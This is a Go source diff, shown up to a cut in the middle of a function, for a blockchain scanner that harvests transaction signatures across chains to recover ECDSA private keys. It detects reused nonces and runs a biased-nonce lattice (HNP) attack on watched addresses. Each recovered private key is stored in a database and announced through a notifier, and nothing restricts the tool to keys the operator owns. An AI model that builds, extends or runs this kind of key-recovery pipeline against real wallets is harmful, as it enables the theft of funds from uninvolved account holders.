@@ -2,8 +2,11 @@ package scanner
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"math/big"
+	"sort"
+	"strconv"
 	"strings"
 	"sync"
 	"time"
@@ -16,9 +19,12 @@ import (
 
 	"ecdsa-scanner/internal/config"
 	"ecdsa-scanner/internal/db"
+	"ecdsa-scanner/internal/events"
 	"ecdsa-scanner/internal/logger"
+	"ecdsa-scanner/internal/metrics"
 	"ecdsa-scanner/internal/notify"
 	"ecdsa-scanner/internal/recovery"
+	"ecdsa-scanner/internal/rpcpool"
 )
 
 // RPCTransaction represents a transaction from the RPC
@@ -33,16 +39,18 @@ type RPCTransaction struct {
 // RPCBlock represents a block from the RPC
 type RPCBlock struct {
 	Number       string           `json:"number"`
+	Hash         string           `json:"hash"`
+	ParentHash   string           `json:"parentHash"`
 	Transactions []RPCTransaction `json:"transactions"`
 }
 
 // CollisionEvent is sent when a collision is detected
 type CollisionEvent struct {
-	RValue      string
-	NewTxHash   string
-	NewChainID  int
-	NewAddress  string
-	FirstTxRef  db.TxRef
+	RValue     string
+	NewTxHash  string
+	NewChainID int
+	NewAddress string
+	FirstTxRef db.TxRef
 }
 
 // ChainStats holds statistics for a single chain
@@ -53,46 +61,108 @@ type ChainStats struct {
 	LatestBlock  uint64 `json:"latest_block"`
 	Running      bool   `json:"running"`
 	ErrorCount   int    `json:"error_count"`
+	// Mode is "push" while the WS newHeads subscription is driving
+	// LatestBlock, or "poll" while falling back to eth_blockNumber.
+	Mode string `json:"mode"`
 }
 
 // ChainScanner handles scanning for a single chain
 type ChainScanner struct {
-	config          config.ChainConfig
-	client          *rpc.Client
-	ethClient       *ethclient.Client
-	running         bool
-	stopChan        chan struct{}
-	mu              sync.Mutex
-	stats           ChainStats
-	errCount        int
-	lastNewBlockAt  time.Time     // when we last saw a new block from the chain
-	estBlockTime    time.Duration // estimated block time based on observations
+	config         config.ChainConfig
+	pool           *rpcpool.Pool
+	running        bool
+	stopChan       chan struct{}
+	mu             sync.Mutex
+	stats          ChainStats
+	errCount       int
+	lastNewBlockAt time.Time     // when we last saw a new block from the chain
+	estBlockTime   time.Duration // estimated block time based on observations
+
+	// pushMode and headCh back the WS eth_subscribe(newHeads) fast path:
+	// while a subscription is healthy, pushMode is true and new head
+	// numbers arrive on headCh instead of being learned by polling
+	// eth_blockNumber. See Scanner.subscribeLoop.
+	pushMode bool
+	headCh   chan uint64
 }
 
+// watchedAddressRefreshInterval is how often the scanner reloads the
+// watched_addresses table into its in-memory lookup set. A real LISTEN/NOTIFY
+// push would cut this latency to ~0, but NOTIFY is Postgres-specific and the
+// scanner talks to db.Store, which has to stay backend-agnostic, so a short
+// poll is the portable option.
+const watchedAddressRefreshInterval = 10 * time.Second
+
+// biasedNonceCheckInterval is how often the scanner looks for watched
+// addresses that have accumulated enough recorded signatures to attempt a
+// Hidden Number Problem lattice recovery.
+const biasedNonceCheckInterval = 5 * time.Minute
+
+// biasedNonceMinSignatures is how many (r, s, h) signatures
+// GetBiasedSignatureCandidates must return for an address before a lattice
+// attempt is worth the cost of running LLL reduction. biasedNonceMSBBits is
+// how many of each nonce's most-significant bits RecoverFromBiasedNonces
+// assumes are zero - the classic "RNG only fills the low bits" bias.
+// biasedNonceWorkers bounds how many lattice attempts run concurrently,
+// since LLL reduction over a dozens-of-signatures basis isn't cheap.
+const (
+	biasedNonceMinSignatures = 20
+	biasedNonceMSBBits       = 32
+	biasedNonceWorkers       = 2
+)
+
+// rpcErrorThreshold is how many consecutive-ish RPC errors a chain has to
+// accumulate before another events.KindRPCErrorThreshold event fires, so
+// dashboards get a signal worth paging on instead of one event per error.
+const rpcErrorThreshold = 10
+
 // Scanner coordinates scanning across all chains
 type Scanner struct {
-	db              db.Database
+	db              db.Store
 	logger          *logger.Logger
 	notifier        *notify.Notifier
+	events          *events.Bus
+	metrics         metrics.Metrics
 	chainScanners   map[int]*ChainScanner // keyed by chainID
 	mu              sync.RWMutex
 	collisionChan   chan CollisionEvent
 	recoveryEnabled bool
 	ankrAPIKey      string
 	systemAddresses map[string]bool
+	txDecoder       *TxDecoder
+
+	// scanMode is one of the config.ScanMode* values, controlling how
+	// watchedAddresses is used in scanBlock.
+	scanMode         string
+	watchedMu        sync.RWMutex
+	watchedAddresses map[string]bool // "chainID:address" (lowercased) -> watched
+
+	// coordinator partitions catch-up block ranges across scanner replicas;
+	// see SetCoordinator and the catch-up branch of scanLoop.
+	coordinator Coordinator
 }
 
 // New creates a new Scanner
-func New(database db.Database, log *logger.Logger, ankrAPIKey string, notifier *notify.Notifier) (*Scanner, error) {
+func New(database db.Store, log *logger.Logger, ankrAPIKey string, notifier *notify.Notifier, scanMode string) (*Scanner, error) {
+	if scanMode == "" {
+		scanMode = config.ScanModeAll
+	}
+
 	s := &Scanner{
-		db:              database,
-		logger:          log,
-		notifier:        notifier,
-		chainScanners:   make(map[int]*ChainScanner),
-		collisionChan:   make(chan CollisionEvent, 10000),
-		recoveryEnabled: true,
-		ankrAPIKey:      ankrAPIKey,
-		systemAddresses: config.SystemAddresses(),
+		db:               database,
+		logger:           log,
+		notifier:         notifier,
+		events:           events.NewBus(),
+		metrics:          metrics.Noop{},
+		chainScanners:    make(map[int]*ChainScanner),
+		collisionChan:    make(chan CollisionEvent, 10000),
+		recoveryEnabled:  true,
+		ankrAPIKey:       ankrAPIKey,
+		systemAddresses:  config.SystemAddresses(),
+		txDecoder:        NewTxDecoder(),
+		scanMode:         scanMode,
+		watchedAddresses: make(map[string]bool),
+		coordinator:      noopCoordinator{},
 	}
 
 	// Start collision processors (multiple workers to handle RPC latency)
@@ -100,36 +170,208 @@ func New(database db.Database, log *logger.Logger, ankrAPIKey string, notifier *
 		go s.processCollisions()
 	}
 
+	if s.scanMode != config.ScanModeAll {
+		s.refreshWatchedAddresses()
+		go s.watchedAddressRefreshLoop()
+		go s.biasedNonceCheckLoop()
+	}
+
 	// Initialize chain scanners
 	for _, cfg := range config.DefaultChains() {
 		if !cfg.Enabled {
 			continue
 		}
-
-		rpcURL := s.buildRPCURL(cfg.RPCURL)
-		client, err := rpc.Dial(rpcURL)
-		if err != nil {
-			log.Warn("[%s] Failed to connect: %v", cfg.Name, err)
+		s.chainScanners[cfg.ChainID] = s.newChainScanner(cfg)
+		if s.chainScanners[cfg.ChainID].pool != nil {
+			log.Info("[%s] Initialized scanner (chainID=%d)", cfg.Name, cfg.ChainID)
 		}
+	}
+
+	return s, nil
+}
+
+// watchedAddressRefreshLoop periodically reloads the watched_addresses table
+// into memory. It runs for the lifetime of the Scanner, same as
+// processCollisions.
+func (s *Scanner) watchedAddressRefreshLoop() {
+	ticker := time.NewTicker(watchedAddressRefreshInterval)
+	defer ticker.Stop()
+	for range ticker.C {
+		s.refreshWatchedAddresses()
+	}
+}
+
+func (s *Scanner) refreshWatchedAddresses() {
+	addrs, err := s.db.ListWatchedAddresses(context.Background())
+	if err != nil {
+		s.logger.Warn("Failed to refresh watched addresses: %v", err)
+		return
+	}
+
+	watched := make(map[string]bool, len(addrs))
+	for _, a := range addrs {
+		watched[watchedKey(a.ChainID, a.Address)] = true
+	}
+
+	s.watchedMu.Lock()
+	s.watchedAddresses = watched
+	s.watchedMu.Unlock()
+}
+
+func (s *Scanner) isWatched(chainID int, address string) bool {
+	s.watchedMu.RLock()
+	defer s.watchedMu.RUnlock()
+	return s.watchedAddresses[watchedKey(chainID, address)]
+}
+
+func watchedKey(chainID int, address string) string {
+	return fmt.Sprintf("%d:%s", chainID, strings.ToLower(address))
+}
 
-		var ethClient *ethclient.Client
-		if client != nil {
-			ethClient = ethclient.NewClient(client)
+// splitWatchedKey reverses watchedKey, for code that needs to iterate
+// s.watchedAddresses back into (chainID, address) pairs.
+func splitWatchedKey(key string) (chainID int, address string, ok bool) {
+	parts := strings.SplitN(key, ":", 2)
+	if len(parts) != 2 {
+		return 0, "", false
+	}
+	id, err := strconv.Atoi(parts[0])
+	if err != nil {
+		return 0, "", false
+	}
+	return id, parts[1], true
+}
+
+// biasedNonceJob is one (address, chain) pair due for a
+// GetBiasedSignatureCandidates check.
+type biasedNonceJob struct {
+	address string
+	chainID int
+}
+
+// biasedNonceCheckLoop runs for the lifetime of the Scanner, periodically
+// dispatching a biased-nonce candidacy check for every watched address to a
+// bounded worker pool. It only runs when watched addresses are tracked at
+// all (see New), since GetBiasedSignatureCandidates can only ever find
+// anything for addresses txInputsForBlock bothered to decode S/H for.
+func (s *Scanner) biasedNonceCheckLoop() {
+	jobs := make(chan biasedNonceJob, biasedNonceWorkers)
+	for i := 0; i < biasedNonceWorkers; i++ {
+		go s.biasedNonceWorker(jobs)
+	}
+
+	ticker := time.NewTicker(biasedNonceCheckInterval)
+	defer ticker.Stop()
+	for range ticker.C {
+		s.dispatchBiasedNonceChecks(jobs)
+	}
+}
+
+// dispatchBiasedNonceChecks enqueues every currently-watched address, giving
+// up on (and logging) any that don't fit so a slow round never blocks the
+// next tick.
+func (s *Scanner) dispatchBiasedNonceChecks(jobs chan<- biasedNonceJob) {
+	s.watchedMu.RLock()
+	keys := make([]string, 0, len(s.watchedAddresses))
+	for k := range s.watchedAddresses {
+		keys = append(keys, k)
+	}
+	s.watchedMu.RUnlock()
+
+	for _, k := range keys {
+		chainID, address, ok := splitWatchedKey(k)
+		if !ok {
+			continue
 		}
+		select {
+		case jobs <- biasedNonceJob{address: address, chainID: chainID}:
+		default:
+			s.logger.Warn("[RECOVERY] Biased-nonce check queue full, skipping %s on chain %d this round", address, chainID)
+		}
+	}
+}
+
+func (s *Scanner) biasedNonceWorker(jobs <-chan biasedNonceJob) {
+	for job := range jobs {
+		s.attemptBiasedNonceRecovery(job.address, job.chainID)
+	}
+}
+
+// attemptBiasedNonceRecovery checks whether address has accumulated enough
+// recorded signatures for a lattice attack, and if so, runs
+// recovery.RecoverFromBiasedNonces and persists the result the same way
+// the collision-based recovery paths do: verify, save, notify.
+func (s *Scanner) attemptBiasedNonceRecovery(address string, chainID int) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
+	defer cancel()
+
+	recovered, _ := s.db.IsKeyRecovered(ctx, address, chainID)
+	if recovered {
+		return
+	}
+
+	candidates, err := s.db.GetBiasedSignatureCandidates(ctx, address, chainID, biasedNonceMinSignatures)
+	if err != nil {
+		return
+	}
 
-		s.chainScanners[cfg.ChainID] = &ChainScanner{
-			config:    cfg,
-			client:    client,
-			ethClient: ethClient,
-			stopChan:  make(chan struct{}),
-			stats:     ChainStats{Chain: cfg.Name, ChainID: cfg.ChainID},
+	var rValues, txHashes []string
+	sigs := make([]recovery.TxSignature, 0, len(candidates))
+	for _, c := range candidates {
+		r, ok := new(big.Int).SetString(strings.TrimPrefix(c.RValue, "0x"), 16)
+		if !ok {
+			continue
 		}
-		if client != nil {
-			log.Info("[%s] Initialized scanner (chainID=%d)", cfg.Name, cfg.ChainID)
+		sVal, ok := new(big.Int).SetString(strings.TrimPrefix(c.SValue, "0x"), 16)
+		if !ok {
+			continue
+		}
+		h, ok := new(big.Int).SetString(strings.TrimPrefix(c.HValue, "0x"), 16)
+		if !ok {
+			continue
 		}
+		sigs = append(sigs, recovery.TxSignature{TxHash: c.TxHash, SigningHash: h.Bytes(), R: r, S: sVal})
+		rValues = append(rValues, c.RValue)
+		txHashes = append(txHashes, c.TxHash)
 	}
 
-	return s, nil
+	recoveredKey, err := recovery.RecoverFromBiasedNonces(sigs, address, biasedNonceMSBBits)
+	if err != nil {
+		s.logger.Warn("[RECOVERY] Biased-nonce attempt for %s (chain %d, %d signatures) failed: %v", address, chainID, len(sigs), err)
+		return
+	}
+
+	chainName := ""
+	if cfg := config.ChainByID(chainID); cfg != nil {
+		chainName = cfg.Name
+	}
+
+	if _, err := s.db.SaveRecoveredKey(ctx, &db.RecoveredKey{
+		Address:    strings.ToLower(address),
+		PrivateKey: recoveredKey.PrivateKey,
+		ChainID:    chainID,
+		ChainName:  chainName,
+		RValues:    rValues,
+		TxHashes:   txHashes,
+	}); err != nil {
+		s.logger.Warn("[RECOVERY] Failed to save biased-nonce key for %s: %v", address, err)
+		return
+	}
+
+	s.logger.Info("[RECOVERY] *** SUCCESS (biased nonce / HNP) *** Recovered key for %s", address)
+	if err := s.notifier.NotifyKeyRecovered(address, chainName, len(sigs)); err != nil {
+		s.logger.Warn("[NOTIFY] Failed to send notification: %v", err)
+	}
+	s.events.Publish(events.Event{
+		Kind:      events.KindKeyRecovered,
+		ChainID:   chainID,
+		ChainName: chainName,
+		Address:   address,
+	})
+	s.metrics.KeyRecovered()
+
+	// This key might also be what a pending component was waiting on.
+	s.checkPendingComponentsForAddress(ctx, address)
 }
 
 func (s *Scanner) buildRPCURL(baseURL string) string {
@@ -139,9 +381,27 @@ func (s *Scanner) buildRPCURL(baseURL string) string {
 	return baseURL
 }
 
+// buildEndpoints applies the Ankr API key suffix to every configured
+// endpoint for cfg, same as buildRPCURL does for the legacy single-URL path.
+func (s *Scanner) buildEndpoints(cfg config.ChainConfig) []config.NamedEndpoint {
+	endpoints := cfg.Endpoints()
+	built := make([]config.NamedEndpoint, len(endpoints))
+	for i, ep := range endpoints {
+		built[i] = config.NamedEndpoint{Name: ep.Name, URL: s.buildRPCURL(ep.URL), Weight: ep.Weight}
+	}
+	return built
+}
+
 // StartAll starts all chain scanners
 func (s *Scanner) StartAll() {
+	s.mu.RLock()
+	chainIDs := make([]int, 0, len(s.chainScanners))
 	for chainID := range s.chainScanners {
+		chainIDs = append(chainIDs, chainID)
+	}
+	s.mu.RUnlock()
+
+	for _, chainID := range chainIDs {
 		s.StartChain(chainID)
 		time.Sleep(500 * time.Millisecond)
 	}
@@ -149,18 +409,33 @@ func (s *Scanner) StartAll() {
 
 // StopAll stops all chain scanners
 func (s *Scanner) StopAll() {
+	s.mu.RLock()
+	chainIDs := make([]int, 0, len(s.chainScanners))
 	for chainID := range s.chainScanners {
+		chainIDs = append(chainIDs, chainID)
+	}
+	s.mu.RUnlock()
+
+	for _, chainID := range chainIDs {
 		s.StopChain(chainID)
 	}
 }
 
 // StartChain starts a specific chain scanner
 func (s *Scanner) StartChain(chainID int) {
+	s.mu.RLock()
 	cs, ok := s.chainScanners[chainID]
+	s.mu.RUnlock()
 	if !ok {
 		return
 	}
+	s.startChainScanner(cs)
+}
 
+// startChainScanner does the actual work of StartChain once cs has already
+// been resolved from chainScanners, so ApplyChainConfig can restart a
+// reconfigured chain without a redundant map lookup.
+func (s *Scanner) startChainScanner(cs *ChainScanner) {
 	cs.mu.Lock()
 	if cs.running {
 		cs.mu.Unlock()
@@ -168,18 +443,36 @@ func (s *Scanner) StartChain(chainID int) {
 	}
 	cs.running = true
 	cs.stopChan = make(chan struct{})
+	cs.headCh = make(chan uint64, 1)
 	cs.mu.Unlock()
 
+	s.events.Publish(events.Event{
+		Kind:      events.KindChainStarted,
+		ChainID:   cs.config.ChainID,
+		ChainName: cs.config.Name,
+	})
+	s.metrics.SetChainRunning(cs.config.Name, true)
+
 	go s.scanLoop(cs)
+	if cs.config.WSURL != "" {
+		go s.subscribeLoop(cs)
+	}
 }
 
 // StopChain stops a specific chain scanner
 func (s *Scanner) StopChain(chainID int) {
+	s.mu.RLock()
 	cs, ok := s.chainScanners[chainID]
+	s.mu.RUnlock()
 	if !ok {
 		return
 	}
+	s.stopChainScanner(cs)
+}
 
+// stopChainScanner does the actual work of StopChain once cs has already
+// been resolved from chainScanners; see startChainScanner.
+func (s *Scanner) stopChainScanner(cs *ChainScanner) {
 	cs.mu.Lock()
 	if !cs.running {
 		cs.mu.Unlock()
@@ -188,28 +481,200 @@ func (s *Scanner) StopChain(chainID int) {
 	cs.running = false
 	close(cs.stopChan)
 	cs.mu.Unlock()
+
+	s.events.Publish(events.Event{
+		Kind:      events.KindChainStopped,
+		ChainID:   cs.config.ChainID,
+		ChainName: cs.config.Name,
+	})
+	s.metrics.SetChainRunning(cs.config.Name, false)
+}
+
+// newChainScanner builds a *ChainScanner for cfg, the same way New's
+// initial loop does, so ApplyChainConfig can register a chain that wasn't
+// part of the scanner's initial chain list.
+func (s *Scanner) newChainScanner(cfg config.ChainConfig) *ChainScanner {
+	pool, err := rpcpool.New(cfg.Name, s.buildEndpoints(cfg), rpcpool.RoundRobin)
+	if err != nil {
+		s.logger.Warn("[%s] Failed to connect: %v", cfg.Name, err)
+	}
+	if pool != nil {
+		chainName := cfg.Name
+		pool.SetOnStateChange(func(endpoint, from, to string) {
+			s.logger.Warn("[%s] endpoint %s breaker %s -> %s", chainName, endpoint, from, to)
+		})
+	}
+	return &ChainScanner{
+		config:   cfg,
+		pool:     pool,
+		stopChan: make(chan struct{}),
+		stats:    ChainStats{Chain: cfg.Name, ChainID: cfg.ChainID},
+	}
+}
+
+// ApplyChainConfig reconciles the scanner's live chain set against chains,
+// so a config.ConfigHandler-driven PATCH can add, remove, or reconfigure
+// (RPC URLs, confirmation depth, block time, ...) chains without a process
+// restart. A chain that's running when its config changes is stopped,
+// rebuilt, and restarted; one that's removed from chains entirely is
+// stopped and dropped. Notifier and storage settings aren't handled here -
+// see config.ConfigHandler for what PATCH actually propagates live today.
+func (s *Scanner) ApplyChainConfig(chains []config.ChainConfig) {
+	wanted := make(map[int]config.ChainConfig, len(chains))
+	for _, cfg := range chains {
+		wanted[cfg.ChainID] = cfg
+	}
+
+	s.mu.Lock()
+	defer s.mu.Unlock()
+
+	for chainID, cs := range s.chainScanners {
+		if _, ok := wanted[chainID]; ok {
+			continue
+		}
+		s.stopChainScanner(cs)
+		delete(s.chainScanners, chainID)
+		s.logger.Info("[%s] Removed from config (chainID=%d)", cs.config.Name, chainID)
+	}
+
+	for chainID, cfg := range wanted {
+		cs, exists := s.chainScanners[chainID]
+		if !exists {
+			s.chainScanners[chainID] = s.newChainScanner(cfg)
+			s.logger.Info("[%s] Added from config (chainID=%d)", cfg.Name, chainID)
+			continue
+		}
+		if chainConfigEqual(cs.config, cfg) {
+			continue
+		}
+
+		wasRunning := cs.running
+		s.stopChainScanner(cs)
+		next := s.newChainScanner(cfg)
+		s.chainScanners[chainID] = next
+		s.logger.Info("[%s] Reconfigured (chainID=%d)", cfg.Name, chainID)
+		if wasRunning && cfg.Enabled {
+			s.startChainScanner(next)
+		}
+	}
+}
+
+// chainConfigEqual reports whether two ChainConfigs would produce the same
+// ChainScanner, so ApplyChainConfig can skip rebuilding (and briefly
+// interrupting) a chain whose config hasn't actually changed.
+func chainConfigEqual(a, b config.ChainConfig) bool {
+	if a.Name != b.Name || a.RPCURL != b.RPCURL || a.WSURL != b.WSURL ||
+		a.ExplorerURL != b.ExplorerURL || a.Enabled != b.Enabled ||
+		a.BlockTime != b.BlockTime || a.ConfirmationDepth != b.ConfirmationDepth ||
+		a.CatchupWorkers != b.CatchupWorkers || len(a.RPCURLs) != len(b.RPCURLs) ||
+		len(a.Tokens) != len(b.Tokens) {
+		return false
+	}
+	for i := range a.RPCURLs {
+		if a.RPCURLs[i] != b.RPCURLs[i] {
+			return false
+		}
+	}
+	for i := range a.Tokens {
+		if a.Tokens[i] != b.Tokens[i] {
+			return false
+		}
+	}
+	return true
+}
+
+// Events returns the Scanner's event bus, so the API layer can subscribe
+// live scanner/recovery activity to a stream (e.g. SSE) without the
+// Scanner needing to know anything about HTTP.
+func (s *Scanner) Events() *events.Bus {
+	return s.events
+}
+
+// SetMetrics installs m as the Scanner's metrics collector. The default,
+// set by New, is metrics.Noop{}, so a deployment (or test) that doesn't
+// call SetMetrics pays no instrumentation cost and doesn't have to special
+// case a nil Metrics.
+func (s *Scanner) SetMetrics(m metrics.Metrics) {
+	s.metrics = m
+}
+
+// Metrics returns the Scanner's metrics collector, so the API layer can
+// update gauges (pending components, DB health, head lag) it computes from
+// data the Scanner itself doesn't own.
+func (s *Scanner) Metrics() metrics.Metrics {
+	return s.metrics
+}
+
+// RPCPoolStats returns each chain's RPC endpoint health, keyed by chain
+// name, for the stats endpoint to surface.
+func (s *Scanner) RPCPoolStats() map[string][]rpcpool.EndpointStats {
+	s.mu.RLock()
+	defer s.mu.RUnlock()
+
+	stats := make(map[string][]rpcpool.EndpointStats)
+	for _, cs := range s.chainScanners {
+		cs.mu.Lock()
+		pool := cs.pool
+		name := cs.config.Name
+		cs.mu.Unlock()
+		if pool == nil {
+			continue
+		}
+		stats[name] = pool.Stats()
+	}
+	return stats
 }
 
 // GetChainStats returns statistics for all chains
 func (s *Scanner) GetChainStats() []ChainStats {
+	s.mu.RLock()
+	defer s.mu.RUnlock()
+
 	var stats []ChainStats
 	for _, cs := range s.chainScanners {
 		cs.mu.Lock()
 		st := cs.stats
 		st.Running = cs.running
 		st.ErrorCount = cs.errCount
+		if cs.pushMode {
+			st.Mode = "push"
+		} else {
+			st.Mode = "poll"
+		}
 		cs.mu.Unlock()
 		stats = append(stats, st)
 	}
 	return stats
 }
 
+// recordRPCError increments cs's error count and, each time it crosses
+// another multiple of rpcErrorThreshold, publishes a KindRPCErrorThreshold
+// event so a dashboard or alert rule can react without polling GetChainStats.
+func (s *Scanner) recordRPCError(cs *ChainScanner) {
+	cs.mu.Lock()
+	cs.errCount++
+	crossed := cs.errCount%rpcErrorThreshold == 0
+	errCount := cs.errCount
+	cs.mu.Unlock()
+
+	s.metrics.RPCError(cs.config.Name)
+
+	if crossed {
+		s.events.Publish(events.Event{
+			Kind:      events.KindRPCErrorThreshold,
+			ChainID:   cs.config.ChainID,
+			ChainName: cs.config.Name,
+			Count:     errCount,
+		})
+	}
+}
+
 func (s *Scanner) scanLoop(cs *ChainScanner) {
 	ctx := context.Background()
 	chainName := cs.config.Name
 	chainID := cs.config.ChainID
 
-	if cs.client == nil {
+	if cs.pool == nil {
 		if err := s.reconnect(cs); err != nil {
 			s.logger.Error("[%s] Failed to connect: %v", chainName, err)
 			return
@@ -239,13 +704,19 @@ func (s *Scanner) scanLoop(cs *ChainScanner) {
 
 		latestBlock, err := s.getLatestBlock(cs, ctx)
 		if err != nil {
-			cs.mu.Lock()
-			cs.errCount++
-			cs.mu.Unlock()
+			s.recordRPCError(cs)
 			time.Sleep(5 * time.Second)
 			continue
 		}
 
+		if rewound, err := s.checkReorg(cs, ctx, chainID, lastBlock); err != nil {
+			s.logger.Error("[%s] Reorg check failed: %v", chainName, err)
+			time.Sleep(5 * time.Second)
+			continue
+		} else {
+			lastBlock = rewound
+		}
+
 		cs.mu.Lock()
 		prevLatest := cs.stats.LatestBlock
 		cs.stats.LatestBlock = latestBlock
@@ -268,8 +739,21 @@ func (s *Scanner) scanLoop(cs *ChainScanner) {
 			cs.mu.Unlock()
 		}
 
-		if lastBlock >= latestBlock {
-			// Caught up - wait based on estimated block time
+		// Don't scan past the chain's confirmation depth: a block this close
+		// to the tip could still be reorged out, and scanBlock's R-value
+		// inserts are immediately eligible for collision matching, so
+		// scanning it early would let an orphaned block poison detection.
+		confirmedTip := latestBlock
+		if cs.config.ConfirmationDepth > 0 {
+			if cs.config.ConfirmationDepth > latestBlock {
+				confirmedTip = 0
+			} else {
+				confirmedTip = latestBlock - cs.config.ConfirmationDepth
+			}
+		}
+
+		if lastBlock >= confirmedTip {
+			// Caught up (to the confirmed tip) - wait based on estimated block time
 			cs.mu.Lock()
 			waitTime := cs.estBlockTime
 			cs.mu.Unlock()
@@ -283,11 +767,47 @@ func (s *Scanner) scanLoop(cs *ChainScanner) {
 			continue
 		}
 
+		if confirmedTip-lastBlock > catchupThreshold {
+			// If a Coordinator is configured, claim this replica's slice of
+			// the catch-up range instead of scanning all of it: clamp the
+			// upper bound to the claimed shard so another replica is free to
+			// claim the rest concurrently. A disabled/unavailable
+			// coordinator (the default) falls back to the full range, same
+			// as before Coordinator existed.
+			toBlock := confirmedTip
+			var shard db.Shard
+			haveShard := false
+			if claimed, err := s.coordinator.ClaimShard(ctx, chainID, catchupShardSize); err == nil {
+				shard, haveShard = claimed, true
+				toBlock = claimed.RangeEnd
+			} else if !errors.Is(err, ErrCoordinationDisabled) {
+				s.logger.Warn("[%s] Failed to claim shard: %v", chainName, err)
+			}
+
+			newLastBlock, err := s.scanCatchup(cs, ctx, lastBlock+1, toBlock)
+			if err != nil {
+				s.logger.Error("[%s] Catch-up failed: %v", chainName, err)
+			}
+			if newLastBlock > lastBlock {
+				lastBlock = newLastBlock
+				cs.mu.Lock()
+				cs.stats.CurrentBlock = lastBlock
+				cs.mu.Unlock()
+			}
+			if haveShard && err == nil && newLastBlock >= toBlock {
+				if cerr := s.coordinator.CompleteShard(ctx, shard); cerr != nil {
+					s.logger.Warn("[%s] Failed to complete shard: %v", chainName, cerr)
+				}
+			}
+			if err != nil {
+				time.Sleep(2 * time.Second)
+			}
+			continue
+		}
+
 		nextBlock := lastBlock + 1
 		if err := s.scanBlock(cs, ctx, nextBlock); err != nil {
-			cs.mu.Lock()
-			cs.errCount++
-			cs.mu.Unlock()
+			s.recordRPCError(cs)
 			s.logger.Error("[%s] Failed to scan block %d: %v", chainName, nextBlock, err)
 			time.Sleep(2 * time.Second)
 			continue
@@ -328,26 +848,190 @@ func (s *Scanner) scanLoop(cs *ChainScanner) {
 }
 
 func (s *Scanner) reconnect(cs *ChainScanner) error {
-	rpcURL := s.buildRPCURL(cs.config.RPCURL)
-	client, err := rpc.Dial(rpcURL)
+	pool, err := rpcpool.New(cs.config.Name, s.buildEndpoints(cs.config), rpcpool.RoundRobin)
 	if err != nil {
 		return err
 	}
+	chainName := cs.config.Name
+	pool.SetOnStateChange(func(endpoint, from, to string) {
+		s.logger.Warn("[%s] endpoint %s breaker %s -> %s", chainName, endpoint, from, to)
+	})
 
 	cs.mu.Lock()
-	if cs.client != nil {
-		cs.client.Close()
+	if cs.pool != nil {
+		cs.pool.Close()
 	}
-	cs.client = client
-	cs.ethClient = ethclient.NewClient(client)
+	cs.pool = pool
 	cs.mu.Unlock()
 
 	s.logger.Info("[%s] Reconnected", cs.config.Name)
 	return nil
 }
 
+// wsReconnectDelay is how long subscribeLoop waits before retrying a dropped
+// or failed WS subscription.
+const wsReconnectDelay = 10 * time.Second
+
+// subscribeLoop keeps a WS eth_subscribe(newHeads) subscription alive for
+// the lifetime of cs, falling back to scanLoop's ordinary polling (by
+// leaving cs.pushMode false) whenever the subscription is down - on startup
+// before the first connect, and any time it drops.
+func (s *Scanner) subscribeLoop(cs *ChainScanner) {
+	for {
+		select {
+		case <-cs.stopChan:
+			return
+		default:
+		}
+
+		if err := s.runSubscription(cs); err != nil {
+			s.logger.Warn("[%s] WS subscription error, falling back to polling: %v", cs.config.Name, err)
+		}
+
+		cs.mu.Lock()
+		cs.pushMode = false
+		cs.mu.Unlock()
+
+		select {
+		case <-cs.stopChan:
+			return
+		case <-time.After(wsReconnectDelay):
+		}
+	}
+}
+
+// runSubscription dials cs.config.WSURL, subscribes to newHeads, and feeds
+// header numbers to cs.headCh until the subscription errors, the chain
+// scanner is stopped, or the WS connection otherwise drops. It returns the
+// error that ended the subscription, or nil on a clean stop.
+func (s *Scanner) runSubscription(cs *ChainScanner) error {
+	client, err := rpc.DialContext(context.Background(), cs.config.WSURL)
+	if err != nil {
+		return fmt.Errorf("dial ws: %w", err)
+	}
+	defer client.Close()
+
+	ec := ethclient.NewClient(client)
+	headers := make(chan *types.Header, 16)
+	sub, err := ec.SubscribeNewHead(context.Background(), headers)
+	if err != nil {
+		return fmt.Errorf("subscribe newHeads: %w", err)
+	}
+	defer sub.Unsubscribe()
+
+	cs.mu.Lock()
+	cs.pushMode = true
+	cs.mu.Unlock()
+	s.logger.Info("[%s] WS newHeads subscription active", cs.config.Name)
+
+	for {
+		select {
+		case <-cs.stopChan:
+			return nil
+		case err := <-sub.Err():
+			return err
+		case header := <-headers:
+			select {
+			case cs.headCh <- header.Number.Uint64():
+			default:
+				// scanLoop hasn't drained the last head yet; it'll pick up
+				// the newest one next time it calls getLatestBlock.
+				<-cs.headCh
+				cs.headCh <- header.Number.Uint64()
+			}
+		}
+	}
+}
+
+// checkReorg verifies the hash recorded for lastBlock still matches the
+// chain. If it doesn't, the chain has reorged out from under us: FindLCA
+// walks back to the latest common ancestor, the scan state above it is
+// purged, and the returned block number is where scanning should resume.
+func (s *Scanner) checkReorg(cs *ChainScanner, ctx context.Context, chainID int, lastBlock uint64) (uint64, error) {
+	if lastBlock == 0 {
+		return lastBlock, nil
+	}
+
+	stored, err := s.db.GetScannedBlock(ctx, chainID, lastBlock)
+	if errors.Is(err, db.ErrNotFound) {
+		// Never recorded a hash at this height (e.g. resumed from an older
+		// cursor) - nothing to compare against, so assume no reorg.
+		return lastBlock, nil
+	}
+	if err != nil {
+		return lastBlock, fmt.Errorf("get scanned block %d: %w", lastBlock, err)
+	}
+
+	onChain, err := s.fetchBlockHash(cs, ctx, lastBlock)
+	if err != nil {
+		return lastBlock, fmt.Errorf("fetch on-chain hash for block %d: %w", lastBlock, err)
+	}
+	if strings.EqualFold(stored, onChain) {
+		return lastBlock, nil
+	}
+
+	s.logger.Warn("[%s] Reorg detected at block %d (stored %s, chain now %s)",
+		cs.config.Name, lastBlock, stored, onChain)
+
+	lca, err := db.FindLCA(ctx, s.db, chainID, lastBlock, db.DefaultMaxReorgDepth, func(height uint64) (string, error) {
+		return s.fetchBlockHash(cs, ctx, height)
+	})
+	if err != nil {
+		return lastBlock, fmt.Errorf("find common ancestor: %w", err)
+	}
+
+	if err := s.db.DeleteScannedBlocksAtOrAbove(ctx, chainID, lca+1); err != nil {
+		return lastBlock, fmt.Errorf("delete scanned blocks above %d: %w", lca, err)
+	}
+	if err := s.db.DeleteCollisionsAboveBlock(ctx, chainID, lca+1); err != nil {
+		return lastBlock, fmt.Errorf("delete collisions above %d: %w", lca, err)
+	}
+	if err := s.db.SaveLastBlock(ctx, chainID, lca); err != nil {
+		return lastBlock, fmt.Errorf("rewind last block to %d: %w", lca, err)
